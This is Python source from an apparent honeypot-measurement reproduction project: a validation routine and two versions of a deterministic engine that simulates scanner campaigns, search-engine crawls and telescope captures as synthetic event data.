        leaked_avoiders = telescope_sources & avoider_truth
        report.add(
            "telescope-avoidance",
            not leaked_avoiders,
            f"{len(leaked_avoiders)} configured avoiders leaked into the telescope",
        )

    # --- every network kind saw traffic ---
    kind_counts: Counter = Counter()
    for event in result.events():
        kind_counts[event.network_kind] += 1
    for kind in (NetworkKind.CLOUD, NetworkKind.EDU):
        report.add(f"coverage-{kind.value}", kind_counts[kind] > 0,
                   f"{kind_counts[kind]} events")

    # --- timestamps inside the window ---
    hours = result.window.hours
    out_of_window = sum(1 for event in result.events()
                        if not 0.0 <= event.timestamp < hours)
    report.add("timestamps", out_of_window == 0,
               f"{out_of_window} events outside [0, {hours})")

    # --- source attribution consistent with the registry ---
    bad_asn = 0
    checked = 0
    for event in result.events():
        if checked >= 2000:
            break
        checked += 1
        system = result.registry.lookup(event.src_ip)
        if system is None or system.asn != event.src_asn:
            bad_asn += 1
    report.add("as-attribution", bad_asn == 0,
               f"{bad_asn}/{checked} sampled events with inconsistent AS attribution")

    # --- malicious ground truth has malicious-looking traffic ---
    from repro.detection.classify import MaliciousnessClassifier

    classifier = MaliciousnessClassifier()
    truth_hits = truth_total = 0
    for event in result.events():
        if event.src_ip in malicious_truth:
            truth_total += 1
            if classifier.is_malicious(event):
                truth_hits += 1
    detection_rate = truth_hits / truth_total if truth_total else 0.0
    report.add(
        "malicious-detectability",
        detection_rate > 0.25,
        f"{detection_rate:.0%} of configured-malicious traffic is detectably "
        "malicious (logins or rule hits)",
    )

    # --- benign ground truth rarely triggers detection (false positives) ---
    benign_hits = benign_total = 0
    for event in result.events():
        if event.src_ip not in malicious_truth:
            benign_total += 1
            if classifier.is_malicious(event):
                benign_hits += 1
    false_rate = benign_hits / benign_total if benign_total else 0.0
    report.add(
        "benign-false-positives",
        false_rate < 0.15,
        f"{false_rate:.1%} of configured-benign traffic flagged malicious",
    )
    return report
