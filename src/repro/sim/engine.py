"""The traffic-simulation engine.

The engine interprets a declarative :class:`~repro.scanners.base.ScannerSpec`
population against a deployed vantage fleet:

1. **Source allocation** — each campaign gets stable source IPs inside
   its origin AS.
2. **Crawl phase** — the Censys/Shodan models crawl every responding
   vantage point (subject to the leak experiment's blocklists) and build
   their service indexes.
3. **Attack phase** — per (campaign, port), a weight vector over all
   observable destinations is computed from the campaign's strategy;
   session counts are Poisson draws; each session toward a honeypot
   becomes a :class:`~repro.sim.events.ScanIntent` run through the
   vantage's capture stack.  Telescope destinations are recorded through
   the aggregated :class:`~repro.honeypots.telescope.TelescopeCapture`
   (telescopes never capture payloads, so none are synthesized).
4. **Search-engine-driven phase** — campaigns that mine an index send
   spike bursts at the services it lists (or, in ``avoid`` mode, have
   already had listed destinations zeroed out of their weights).

Everything is deterministic given (seed, population, deployment).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Iterable, Optional, Sequence

import numpy as np

from repro.honeypots.base import VantageCapture, VantagePoint
from repro.io.table import EventTable

if TYPE_CHECKING:  # imported lazily to avoid a deployment<->sim cycle
    from repro.deployment.fleet import Deployment
from repro.honeypots.telescope import TelescopeCapture
from repro.net.asn import ASRegistry, default_registry
from repro.net.ports import IANA_ASSIGNMENTS
from repro.scanners.base import PortPlan, ScannerSpec
from repro.scanners.strategies import KIND_INDEX, TargetSet
from repro.searchengines.index import SearchEngine
from repro.sim.clock import ObservationWindow, WEEK_2021
from repro.sim.rng import RngHub

__all__ = ["SimulationConfig", "SimulationResult", "Simulator", "run_simulation"]


@dataclass
class SimulationConfig:
    """Tunable simulation parameters.

    ``emission`` selects how intents reach capture stacks: ``"batch"``
    (default) appends whole columnar batches per (campaign, vantage) run;
    ``"scalar"`` materializes each row and funnels it through the
    one-event ``capture`` API.  Both modes draw from the identical RNG
    stream (all randomness happens while *building* batches), so a seed
    produces the same dataset either way — the seed-equivalence tests
    rely on this.
    """

    seed: int = 20230701
    window: ObservationWindow = WEEK_2021
    crawl_time: float = -24.0  # engines crawled the fleet a day before the window
    leak_crawl_time: float = 2.0  # leaked services are crawled at experiment start
    max_sessions_per_pair: int = 512  # safety valve against runaway rates
    emission: str = "batch"  # "batch" (columnar appends) or "scalar" (row-at-a-time)

    def __post_init__(self) -> None:
        if self.emission not in ("batch", "scalar"):
            raise ValueError(f"unknown emission mode {self.emission!r}")


@dataclass
class SimulationResult:
    """Everything a simulation produced.

    ``captures`` maps vantage_id → honeypot capture; ``telescope`` is the
    aggregated telescope dataset; ``engines`` are the post-crawl search
    engines.  ``population`` and ``source_ips`` are ground truth for
    calibration/validation only — analyses must not read them.
    """

    config: SimulationConfig
    deployment: Deployment
    registry: ASRegistry
    captures: dict[str, VantageCapture]
    telescope: Optional[TelescopeCapture]
    engines: dict[str, SearchEngine]
    population: list[ScannerSpec]
    source_ips: dict[str, np.ndarray]

    @property
    def window(self) -> ObservationWindow:
        return self.config.window

    def events(self) -> Iterable:
        """All honeypot events across vantages (telescope excluded)."""
        for capture in self.captures.values():
            yield from capture.events

    def tables(self) -> dict[str, "EventTable"]:
        """Columnar per-vantage event tables (the zero-copy view)."""
        return {
            vantage_id: capture.table for vantage_id, capture in self.captures.items()
        }

    def honeypot_vantages(self) -> list[VantagePoint]:
        return list(self.deployment.honeypots)

    def total_events(self) -> int:
        return sum(len(capture) for capture in self.captures.values())


class Simulator:
    """Drives one simulation run.  See module docstring for phases."""

    def __init__(
        self,
        deployment: Deployment,
        population: Sequence[ScannerSpec],
        config: SimulationConfig | None = None,
        registry: ASRegistry | None = None,
        spec_slice: Optional[tuple[int, int]] = None,
        enforcer: Optional[object] = None,
    ) -> None:
        self.deployment = deployment
        self.population = list(population)
        self.config = config or SimulationConfig()
        self.registry = registry or default_registry()
        #: Optional mid-run blocklist (anything with ``keep_mask(timestamps,
        #: src_asns, src_ips)``, e.g. :class:`repro.incident.ActiveBlocklist`).
        #: Applied to honeypot intent batches *after* every RNG draw, so an
        #: enforced run consumes the identical random stream as the baseline
        #: and captures exactly the baseline's events minus the blocked rows.
        #: The telescope is passive and stays unfiltered.  Deliberately a
        #: run parameter, not part of :class:`SimulationConfig` — config
        #: digests (orchestrator manifests, caches) name the *traffic*,
        #: which enforcement does not change.
        self.enforcer = enforcer
        if spec_slice is not None:
            lo, hi = spec_slice
            if not 0 <= lo <= hi <= len(self.population):
                raise ValueError(
                    f"spec_slice {spec_slice!r} out of range for "
                    f"{len(self.population)} specs"
                )
        #: Half-open ``[lo, hi)`` population slice to simulate (None =
        #: everything).  Shard workers use this: source allocation still
        #: covers the *full* population in order — the AS registry's
        #: allocation cursor is order-dependent — and every per-campaign
        #: RNG stream is forked by (seed, scanner_id, port), so the slice
        #: produces exactly the events the full run would produce for
        #: those campaigns.
        self.spec_slice = spec_slice
        self.hub = RngHub(self.config.seed)
        self._target_sets: dict[int, TargetSet] = {}
        self._vantage_of_index: dict[int, list[Optional[VantagePoint]]] = {}
        self._honeypot_counts: dict[int, int] = {}
        # Per port: honeypot vantages in index order + an int32 array
        # mapping each honeypot target index to its vantage's ordinal
        # (vantages occupy contiguous index runs by construction).
        self._port_vantages: dict[int, list[VantagePoint]] = {}
        self._vantage_positions: dict[int, np.ndarray] = {}
        self._honeypot_ip_cache: Optional[dict[int, VantagePoint]] = None
        # Sorted listed-IP arrays per (engine, port) for avoidance masks.
        self._listed_ip_cache: dict[tuple[str, int], np.ndarray] = {}
        # Columnar (ips, ports, first_indexed) view of an engine's index.
        self._engine_entry_cache: dict[str, tuple[np.ndarray, np.ndarray, np.ndarray]] = {}

    # ------------------------------------------------------------------
    # phase 1: sources
    # ------------------------------------------------------------------

    def _allocate_sources(self) -> dict[str, np.ndarray]:
        return {
            spec.scanner_id: self.registry.allocate_sources(spec.asn, spec.num_sources)
            for spec in self.population
        }

    # ------------------------------------------------------------------
    # phase 2: crawl
    # ------------------------------------------------------------------

    def _build_engines(self) -> dict[str, SearchEngine]:
        engines = {
            "censys": SearchEngine("censys", crawler_asn=398324),
            "shodan": SearchEngine("shodan", crawler_asn=10439),
        }
        experiment = self.deployment.leak_experiment
        if experiment is not None:
            self._configure_leak_blocking(engines, experiment)
        # Membership is a property of the vantage, not the engine: compute
        # the experiment crawl time once per vantage instead of re-scanning
        # the experiment IP set per (engine, vantage) pair.
        if experiment is not None:
            experiment_ips = np.sort(np.fromiter(experiment.all_ips, dtype=np.int64))
        else:
            experiment_ips = np.empty(0, dtype=np.int64)
        crawl_times = {}
        for vantage in self.deployment.honeypots:
            in_experiment = bool(
                np.isin(vantage.ips.astype(np.int64), experiment_ips).any()
            )
            # Experiment honeypots come online (and leak) at the start
            # of the window; the rest of the fleet was indexed long ago.
            crawl_times[vantage.vantage_id] = (
                self.config.leak_crawl_time if in_experiment else self.config.crawl_time
            )
        for engine in engines.values():
            for vantage in self.deployment.honeypots:
                engine.crawl_vantage(
                    vantage, crawl_times[vantage.vantage_id], IANA_ASSIGNMENTS
                )
            if self.deployment.telescope is not None:
                engine.crawl_vantage(
                    self.deployment.telescope, self.config.crawl_time, IANA_ASSIGNMENTS
                )
        return engines

    def _configure_leak_blocking(
        self, engines: dict[str, SearchEngine], experiment
    ) -> None:
        """Apply the Section 4.3 blocklists.

        Control and previously-leaked IPs block both engines outright
        (previously-leaked ones additionally carry a years-old historical
        HTTP/80 index entry).  Each leaked IP blocks everything except its
        group's (engine, port) combination.
        """
        for engine in engines.values():
            engine.block(experiment.control_ips)
            engine.block(experiment.previously_leaked_ips)
        for ip in experiment.previously_leaked_ips:
            for engine in engines.values():
                engine.seed_historical(ip, 80, "http", hours_before=2 * 365 * 24)
        for group in experiment.leak_groups:
            for ip in group.ips:
                for engine_name, engine in engines.items():
                    for port in engine.crawl_ports:
                        if engine_name == group.engine and port == group.port:
                            continue
                        engine.block_service(ip, port)

    # ------------------------------------------------------------------
    # phase 3: targets
    # ------------------------------------------------------------------

    def _target_set_for(self, port: int) -> TargetSet:
        cached = self._target_sets.get(port)
        if cached is not None:
            return cached

        ips: list[np.ndarray] = []
        kinds: list[np.ndarray] = []
        regions: list[np.ndarray] = []
        continents: list[np.ndarray] = []
        networks: list[np.ndarray] = []
        vantage_of_index: list[Optional[VantagePoint]] = []
        port_vantages: list[VantagePoint] = []
        position_runs: list[np.ndarray] = []

        for vantage in self.deployment.honeypots:
            if not vantage.stack.observes(port):
                continue
            count = vantage.num_ips
            ips.append(vantage.ips)
            kinds.append(np.full(count, KIND_INDEX[vantage.kind], dtype=np.int8))
            regions.append(np.full(count, vantage.region_code, dtype=object))
            continents.append(np.full(count, vantage.continent, dtype=object))
            networks.append(np.full(count, vantage.network, dtype=object))
            vantage_of_index.extend([vantage] * count)
            position_runs.append(np.full(count, len(port_vantages), dtype=np.int32))
            port_vantages.append(vantage)

        telescope = self.deployment.telescope
        if telescope is not None:
            count = telescope.num_ips
            ips.append(telescope.ips)
            kinds.append(np.full(count, KIND_INDEX[telescope.kind], dtype=np.int8))
            regions.append(np.full(count, telescope.region_code, dtype=object))
            continents.append(np.full(count, telescope.continent, dtype=object))
            networks.append(np.full(count, telescope.network, dtype=object))
            vantage_of_index.extend([None] * count)  # None marks telescope bulk path

        if not ips:
            raise RuntimeError(f"no vantage observes port {port}")

        targets = TargetSet(
            ips=np.concatenate(ips),
            kind_codes=np.concatenate(kinds),
            regions=np.concatenate(regions),
            continents=np.concatenate(continents),
            networks=np.concatenate(networks),
        )
        self._target_sets[port] = targets
        self._vantage_of_index[port] = vantage_of_index
        self._honeypot_counts[port] = sum(
            1 for vantage in vantage_of_index if vantage is not None
        )
        self._port_vantages[port] = port_vantages
        self._vantage_positions[port] = (
            np.concatenate(position_runs)
            if position_runs
            else np.empty(0, dtype=np.int32)
        )
        return targets

    # ------------------------------------------------------------------
    # phase 4: traffic
    # ------------------------------------------------------------------

    def run(
        self,
        source_ips: Optional[dict[str, np.ndarray]] = None,
        engines: Optional[dict[str, SearchEngine]] = None,
        tap: Optional[callable] = None,
    ) -> SimulationResult:
        """Run the simulation, optionally reusing precomputed phase-1/2 state.

        ``source_ips`` and ``engines`` accept the products of
        :meth:`_allocate_sources` and :meth:`_build_engines` computed by
        an equivalent simulator (same deployment, population, and
        config).  Both phases are deterministic, so injecting them is
        purely an optimization — the orchestrator's forked shard workers
        inherit them from the parent instead of re-crawling per process.

        ``tap`` is an append hook (``tap(table, columns, start, stop)``,
        see :meth:`repro.io.table.EventTable.set_append_hook`) installed
        on every honeypot capture table for the duration of the run —
        the streaming subsystem's engine ingest
        (``run(tap=bus.table_tap())``).  It observes both emission modes
        and is detached before the result is returned.
        """
        if source_ips is None:
            source_ips = self._allocate_sources()
        if engines is None:
            engines = self._build_engines()
        captures = {
            vantage.vantage_id: VantageCapture(vantage)
            for vantage in self.deployment.honeypots
        }
        telescope_capture = (
            TelescopeCapture(self.deployment.telescope)
            if self.deployment.telescope is not None
            else None
        )
        if tap is not None:
            for capture in captures.values():
                capture.table.set_append_hook(tap)

        try:
            lo, hi = self.spec_slice if self.spec_slice is not None else (0, len(self.population))
            for spec in self.population[lo:hi]:
                self._run_spec(spec, source_ips[spec.scanner_id], engines, captures, telescope_capture)
        finally:
            if tap is not None:
                for capture in captures.values():
                    capture.table.set_append_hook(None)

        return SimulationResult(
            config=self.config,
            deployment=self.deployment,
            registry=self.registry,
            captures=captures,
            telescope=telescope_capture,
            engines=engines,
            population=self.population,
            source_ips=source_ips,
        )

    def _run_spec(
        self,
        spec: ScannerSpec,
        sources: np.ndarray,
        engines: dict[str, SearchEngine],
        captures: dict[str, VantageCapture],
        telescope_capture: Optional[TelescopeCapture],
    ) -> None:
        for plan in spec.plans:
            rng = self.hub.fork("scan", spec.scanner_id, plan.port)
            targets = self._target_set_for(plan.port)
            weights = spec.strategy.weights(self.hub, spec.scanner_id, targets)
            weights = self._apply_search_avoidance(spec, plan, targets, weights, engines)
            weights = self._apply_honeypot_evasion(spec, plan, weights)

            expected = np.minimum(plan.rate * weights, self.config.max_sessions_per_pair)
            sessions = rng.poisson(expected)
            if sessions.sum() == 0 and spec.search_engine is None:
                continue

            vantage_of_index = self._vantage_of_index[plan.port]
            self._emit_honeypot_sessions(
                spec, plan, rng, sources, sessions, targets, vantage_of_index, captures
            )
            if telescope_capture is not None:
                self._emit_telescope_sessions(
                    spec, plan, rng, sources, sessions, vantage_of_index, telescope_capture
                )
            if spec.search_engine is not None and spec.search_engine.mode == "target":
                self._emit_search_spikes(spec, plan, rng, sources, engines, captures)

    def _apply_search_avoidance(
        self,
        spec: ScannerSpec,
        plan: PortPlan,
        targets: TargetSet,
        weights: np.ndarray,
        engines: dict[str, SearchEngine],
    ) -> np.ndarray:
        use = spec.search_engine
        if use is None or use.mode != "avoid":
            return weights
        listed = self._listed_ips(engines[use.engine], plan.port)
        if len(listed) == 0:
            return weights
        weights = weights.copy()
        mask = np.isin(targets.ips.astype(np.int64), listed)
        weights[mask] = 0.0
        return weights

    def _listed_ips(self, engine: SearchEngine, port: int) -> np.ndarray:
        """Sorted array of IPs the engine lists on ``port`` (cached).

        The index is frozen once the crawl phase finishes, so the cache
        never goes stale during the attack phase.
        """
        key = (engine.name, port)
        cached = self._listed_ip_cache.get(key)
        if cached is None:
            cached = np.unique(
                np.fromiter(
                    (entry.ip for entry in engine.index.services_on_port(port)),
                    dtype=np.int64,
                )
            )
            self._listed_ip_cache[key] = cached
        return cached

    def _apply_honeypot_evasion(
        self, spec: ScannerSpec, plan: PortPlan, weights: np.ndarray
    ) -> np.ndarray:
        """Fingerprinting attackers withhold traffic from honeypots.

        The telescope cannot be fingerprinted (it never responds), so its
        slice of the index space — the tail — keeps full weight: evasive
        campaigns remain telescope-visible while vanishing from honeypot
        datasets, the bias Section 7 warns about.
        """
        evasion = spec.honeypot_evasion
        if evasion <= 0.0:
            return weights
        honeypot_count = self._honeypot_counts[plan.port]
        weights = weights.copy()
        weights[:honeypot_count] *= 1.0 - evasion
        return weights

    def _emit_honeypot_sessions(
        self,
        spec: ScannerSpec,
        plan: PortPlan,
        rng: np.random.Generator,
        sources: np.ndarray,
        sessions: np.ndarray,
        targets: TargetSet,
        vantage_of_index: list[Optional[VantagePoint]],
        captures: dict[str, VantageCapture],
    ) -> None:
        # Telescope destinations occupy the tail of the index space and are
        # handled by the aggregated bulk path; only walk honeypot indices.
        honeypot_count = self._honeypot_counts[plan.port]
        active = np.flatnonzero(sessions[:honeypot_count])
        if len(active) == 0:
            return
        counts = sessions[active].astype(np.int64)
        total = int(counts.sum())
        hours = float(self.config.window.hours)
        source_asns = self._source_asns(spec, sources)

        # Fixed columnar draw order: per-destination timestamps first,
        # then source picks for every session, then the plan's batch
        # draws (payload/credential/command choices) inside
        # ``build_intent_batch``.  Destinations are visited in target-set
        # index order, so the stream is identical in both emission modes.
        timestamps = plan.temporal.sample_times_grouped(rng, counts, hours)
        source_indices = rng.integers(len(sources), size=total)
        dst_index = np.repeat(active, counts)
        batch = plan.build_intent_batch(
            rng,
            timestamps=timestamps,
            src_ips=np.asarray(sources, dtype=np.int64)[source_indices],
            dst_ips=targets.ips[dst_index].astype(np.int64),
            dst_regions=targets.regions[dst_index],
        )
        batch_asns = source_asns[source_indices]

        if self.enforcer is not None:
            keep = self.enforcer.keep_mask(batch.timestamps, batch_asns, batch.src_ips)
            if not keep.all():
                if not keep.any():
                    return
                kept = np.flatnonzero(keep)
                batch = batch.take(kept)
                batch_asns = batch_asns[kept]
                dst_index = dst_index[kept]
                total = len(kept)

        # Dispatch contiguous per-vantage runs (vantages occupy contiguous
        # index ranges, so sorting is unnecessary; enforcement filtering
        # preserves order, so runs stay contiguous).  Capture columns are
        # computed once per distinct stack *policy* — every GreyNoise
        # sensor on a non-Cowrie port shares one column set, etc. — and
        # each vantage's table appends a zero-copy [start, stop) view.
        positions = self._vantage_positions[plan.port][dst_index]
        boundaries = np.flatnonzero(np.diff(positions)) + 1
        starts = np.concatenate(([0], boundaries))
        stops = np.concatenate((boundaries, [total]))
        vantages = self._port_vantages[plan.port]
        scalar = self.config.emission == "scalar"
        port = plan.port
        shared_columns: dict[tuple, dict] = {}
        for start, stop in zip(starts.tolist(), stops.tolist()):
            vantage = vantages[int(positions[start])]
            capture = captures[vantage.vantage_id]
            if scalar:
                self._dispatch(capture, batch.slice(start, stop), batch_asns[start:stop], True)
                continue
            key = vantage.stack.batch_policy_key(port)
            if key is None:
                capture.record_batch(batch.slice(start, stop), batch_asns[start:stop])
                continue
            columns = shared_columns.get(key)
            if columns is None:
                columns = vantage.stack.capture_batch_columns(batch, batch_asns)
                shared_columns[key] = columns
            capture.table.append_view(columns, start, stop)

    @staticmethod
    def _dispatch(
        capture: VantageCapture,
        batch,
        src_asns: np.ndarray,
        scalar: bool,
    ) -> None:
        """Feed one per-vantage batch through the configured capture path."""
        if scalar:
            for offset, intent in enumerate(batch.intents()):
                capture.record(intent, int(src_asns[offset]))
        else:
            capture.record_batch(batch, src_asns)

    def _emit_telescope_sessions(
        self,
        spec: ScannerSpec,
        plan: PortPlan,
        rng: np.random.Generator,
        sources: np.ndarray,
        sessions: np.ndarray,
        vantage_of_index: list[Optional[VantagePoint]],
        telescope_capture: TelescopeCapture,
    ) -> None:
        telescope = telescope_capture.vantage
        total = len(vantage_of_index)
        start = total - telescope.num_ips
        telescope_sessions = sessions[start:]
        total_hits = int(telescope_sessions.sum())
        if total_hits == 0:
            return
        # Split total hits across the campaign's sources.
        if len(sources) == 1:
            per_source = np.asarray([total_hits], dtype=np.int64)
        else:
            per_source = rng.multinomial(total_hits, np.full(len(sources), 1.0 / len(sources)))
        source_asns = self._source_asns(spec, sources)
        telescope_capture.record_source_hits(plan.port, sources, source_asns, per_source)
        # Distinct sources per destination: a campaign with S sources that
        # sends h packets to one dark IP exposes min(h, S) of them.
        distinct = np.minimum(telescope_sessions, len(sources)).astype(np.int64)
        telescope_capture.record_destination_sources(plan.port, distinct)

    def _emit_search_spikes(
        self,
        spec: ScannerSpec,
        plan: PortPlan,
        rng: np.random.Generator,
        sources: np.ndarray,
        engines: dict[str, SearchEngine],
        captures: dict[str, VantageCapture],
    ) -> None:
        use = spec.search_engine
        assert use is not None and use.mode == "target"
        engine = engines[use.engine]
        hours = float(self.config.window.hours)
        source_asns = self._source_asns(spec, sources)
        vantage_by_ip = self._honeypot_by_ip()

        boosted_plan = self._boost_credentials(plan, use.unique_credential_boost)
        # One discovery roll per indexed *IP*: take the entry giving this
        # campaign's port the best selection probability so that an IP
        # indexed on many ports is not multiply counted (ties keep the
        # earliest-indexed entry).  Candidates are processed in ascending
        # IP order — part of the documented draw order.
        entry_ips, entry_ports, first_indexed = self._engine_entries(engine)
        if len(entry_ips) == 0:
            return
        probabilities = use.selection_probabilities(
            first_indexed, entry_ports == plan.port
        )
        order = np.lexsort((np.arange(len(entry_ips)), -probabilities, entry_ips))
        candidate_ips, first_of_ip = np.unique(entry_ips[order], return_index=True)
        chosen = order[first_of_ip]
        probabilities = probabilities[chosen]
        visible_from = np.maximum(first_indexed[chosen], 0.0)

        # Telescope IPs never respond, so they are never indexed as
        # honeypot candidates; drop any IP without a vantage.
        candidate_vantages = [vantage_by_ip.get(int(ip)) for ip in candidate_ips]
        backed = np.fromiter(
            (vantage is not None for vantage in candidate_vantages),
            dtype=bool,
            count=len(candidate_vantages),
        )
        if not backed.all():
            keep = np.flatnonzero(backed)
            candidate_ips = candidate_ips[keep]
            probabilities = probabilities[keep]
            visible_from = visible_from[keep]
            candidate_vantages = [candidate_vantages[int(k)] for k in keep]
        if len(candidate_ips) == 0:
            return

        # Vectorized draw order: discovery rolls for every candidate,
        # exponential discovery delays for the selected ones, per-spike
        # session counts, then one uniform block for all timestamps.
        selected = np.flatnonzero(rng.random(len(candidate_ips)) < probabilities)
        if len(selected) == 0:
            return
        discovery = visible_from[selected] + rng.exponential(12.0, size=len(selected))
        within = np.flatnonzero(discovery < hours)
        if len(within) == 0:
            return
        selected = selected[within]
        discovery = discovery[within]
        counts = 1 + rng.poisson(use.spike_sessions, size=len(selected))
        total = int(counts.sum())
        limits = np.minimum(discovery + use.spike_hours, hours)
        lows = np.repeat(discovery, counts)
        spans = np.repeat(limits - discovery, counts)
        timestamps = lows + rng.random(total) * spans
        source_indices = rng.integers(len(sources), size=total)
        batch = boosted_plan.build_intent_batch(
            rng,
            timestamps=timestamps,
            src_ips=np.asarray(sources, dtype=np.int64)[source_indices],
            dst_ips=np.repeat(candidate_ips[selected].astype(np.int64), counts),
            dst_regions=np.repeat(
                np.array(
                    [candidate_vantages[int(i)].region_code for i in selected],
                    dtype=object,
                ),
                counts,
            ),
        )
        batch_asns = source_asns[source_indices]
        # Candidate (vantage) index per row; ``selected`` ascends, so the
        # rows form contiguous per-vantage runs that survive filtering.
        row_candidates = np.repeat(selected, counts)

        if self.enforcer is not None:
            keep = self.enforcer.keep_mask(batch.timestamps, batch_asns, batch.src_ips)
            if not keep.all():
                if not keep.any():
                    return
                kept = np.flatnonzero(keep)
                batch = batch.take(kept)
                batch_asns = batch_asns[kept]
                row_candidates = row_candidates[kept]

        scalar = self.config.emission == "scalar"
        boundaries = np.flatnonzero(np.diff(row_candidates)) + 1
        starts = np.concatenate(([0], boundaries))
        stops = np.concatenate((boundaries, [len(row_candidates)]))
        for start, stop in zip(starts.tolist(), stops.tolist()):
            vantage = candidate_vantages[int(row_candidates[start])]
            capture = captures[vantage.vantage_id]
            self._dispatch(capture, batch.slice(start, stop), batch_asns[start:stop], scalar)

    def _engine_entries(
        self, engine: SearchEngine
    ) -> tuple[np.ndarray, np.ndarray, np.ndarray]:
        """Columnar (ips, ports, first_indexed) view of an index (cached)."""
        cached = self._engine_entry_cache.get(engine.name)
        if cached is None:
            entries = list(engine.index.entries())
            ips = np.fromiter((entry.ip for entry in entries), dtype=np.int64, count=len(entries))
            ports = np.fromiter((entry.port for entry in entries), dtype=np.int64, count=len(entries))
            first = np.fromiter(
                (entry.first_indexed for entry in entries), dtype=np.float64, count=len(entries)
            )
            self._engine_entry_cache[engine.name] = cached = (ips, ports, first)
        return cached

    # ------------------------------------------------------------------
    # helpers
    # ------------------------------------------------------------------

    def _source_asns(self, spec: ScannerSpec, sources: np.ndarray) -> np.ndarray:
        # All of a campaign's sources live in its origin AS by construction.
        return np.full(len(sources), spec.asn, dtype=np.int64)

    def _honeypot_by_ip(self) -> dict[int, VantagePoint]:
        if self._honeypot_ip_cache is None:
            self._honeypot_ip_cache = {
                int(ip): vantage
                for vantage in self.deployment.honeypots
                for ip in vantage.ips
            }
        return self._honeypot_ip_cache

    @staticmethod
    def _boost_credentials(plan: PortPlan, boost: float) -> PortPlan:
        """Search-engine-driven sessions try ~3x more unique credentials."""
        if not plan.interactive or boost <= 1.0:
            return plan
        low, high = plan.credential_attempts
        return PortPlan(
            port=plan.port,
            protocol=plan.protocol,
            rate=plan.rate,
            transport=plan.transport,
            http_payloads=plan.http_payloads,
            http_weights=plan.http_weights,
            credential_dialect=plan.credential_dialect,
            credential_attempts=(
                max(1, int(low * boost)),
                max(1, int(high * boost)),
            ),
            distinct_credentials=True,
            banner_only_fraction=plan.banner_only_fraction,
            region_dialects=plan.region_dialects,
            temporal=plan.temporal,
        )


def run_simulation(
    deployment: Deployment,
    population: Sequence[ScannerSpec],
    config: SimulationConfig | None = None,
    registry: ASRegistry | None = None,
    spec_slice: Optional[tuple[int, int]] = None,
    source_ips: Optional[dict[str, np.ndarray]] = None,
    engines: Optional[dict[str, SearchEngine]] = None,
    tap: Optional[callable] = None,
    enforcer: Optional[object] = None,
) -> SimulationResult:
    """Convenience wrapper: build a :class:`Simulator` and run it.

    ``spec_slice`` restricts the attack phase to a contiguous population
    slice (the orchestrator's shard workers use this); deployment, crawl,
    and source allocation still cover the full population so the slice's
    events are identical to the corresponding events of a full run.
    ``source_ips``/``engines`` inject precomputed phase-1/2 state (see
    :meth:`Simulator.run`); ``tap`` streams every capture-table append
    to an observer for the duration of the run; ``enforcer`` filters
    honeypot batches against an active blocklist post-draw (see
    :class:`Simulator`), the closed-loop response hook.
    """
    return Simulator(deployment, population, config, registry, spec_slice, enforcer=enforcer).run(
        source_ips=source_ips, engines=engines, tap=tap
    )
