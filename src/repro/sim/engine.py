"""The traffic-simulation engine.

The engine interprets a declarative :class:`~repro.scanners.base.ScannerSpec`
population against a deployed vantage fleet:

1. **Source allocation** — each campaign gets stable source IPs inside
   its origin AS.
2. **Crawl phase** — the Censys/Shodan models crawl every responding
   vantage point (subject to the leak experiment's blocklists) and build
   their service indexes.
3. **Attack phase** — per (campaign, port), a weight vector over all
   observable destinations is computed from the campaign's strategy;
   session counts are Poisson draws; each session toward a honeypot
   becomes a :class:`~repro.sim.events.ScanIntent` run through the
   vantage's capture stack.  Telescope destinations are recorded through
   the aggregated :class:`~repro.honeypots.telescope.TelescopeCapture`
   (telescopes never capture payloads, so none are synthesized).
4. **Search-engine-driven phase** — campaigns that mine an index send
   spike bursts at the services it lists (or, in ``avoid`` mode, have
   already had listed destinations zeroed out of their weights).

Everything is deterministic given (seed, population, deployment).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Iterable, Optional, Sequence

import numpy as np

from repro.honeypots.base import VantageCapture, VantagePoint

if TYPE_CHECKING:  # imported lazily to avoid a deployment<->sim cycle
    from repro.deployment.fleet import Deployment
from repro.honeypots.telescope import TelescopeCapture
from repro.net.asn import ASRegistry, default_registry
from repro.net.ports import IANA_ASSIGNMENTS
from repro.scanners.base import PortPlan, ScannerSpec
from repro.scanners.strategies import KIND_INDEX, TargetSet
from repro.searchengines.index import SearchEngine
from repro.sim.clock import ObservationWindow, WEEK_2021
from repro.sim.rng import RngHub

__all__ = ["SimulationConfig", "SimulationResult", "Simulator", "run_simulation"]


@dataclass
class SimulationConfig:
    """Tunable simulation parameters."""

    seed: int = 20230701
    window: ObservationWindow = WEEK_2021
    crawl_time: float = -24.0  # engines crawled the fleet a day before the window
    leak_crawl_time: float = 2.0  # leaked services are crawled at experiment start
    max_sessions_per_pair: int = 512  # safety valve against runaway rates


@dataclass
class SimulationResult:
    """Everything a simulation produced.

    ``captures`` maps vantage_id → honeypot capture; ``telescope`` is the
    aggregated telescope dataset; ``engines`` are the post-crawl search
    engines.  ``population`` and ``source_ips`` are ground truth for
    calibration/validation only — analyses must not read them.
    """

    config: SimulationConfig
    deployment: Deployment
    registry: ASRegistry
    captures: dict[str, VantageCapture]
    telescope: Optional[TelescopeCapture]
    engines: dict[str, SearchEngine]
    population: list[ScannerSpec]
    source_ips: dict[str, np.ndarray]

    @property
    def window(self) -> ObservationWindow:
        return self.config.window

    def events(self) -> Iterable:
        """All honeypot events across vantages (telescope excluded)."""
        for capture in self.captures.values():
            yield from capture.events

    def honeypot_vantages(self) -> list[VantagePoint]:
        return list(self.deployment.honeypots)

    def total_events(self) -> int:
        return sum(len(capture) for capture in self.captures.values())


class Simulator:
    """Drives one simulation run.  See module docstring for phases."""

    def __init__(
        self,
        deployment: Deployment,
        population: Sequence[ScannerSpec],
        config: SimulationConfig | None = None,
        registry: ASRegistry | None = None,
    ) -> None:
        self.deployment = deployment
        self.population = list(population)
        self.config = config or SimulationConfig()
        self.registry = registry or default_registry()
        self.hub = RngHub(self.config.seed)
        self._target_sets: dict[int, TargetSet] = {}
        self._vantage_of_index: dict[int, list[Optional[VantagePoint]]] = {}
        self._honeypot_counts: dict[int, int] = {}

    # ------------------------------------------------------------------
    # phase 1: sources
    # ------------------------------------------------------------------

    def _allocate_sources(self) -> dict[str, np.ndarray]:
        sources: dict[str, np.ndarray] = {}
        for spec in self.population:
            allocated = [
                self.registry.allocate_source(spec.asn) for _ in range(spec.num_sources)
            ]
            sources[spec.scanner_id] = np.asarray(allocated, dtype=np.uint32)
        return sources

    # ------------------------------------------------------------------
    # phase 2: crawl
    # ------------------------------------------------------------------

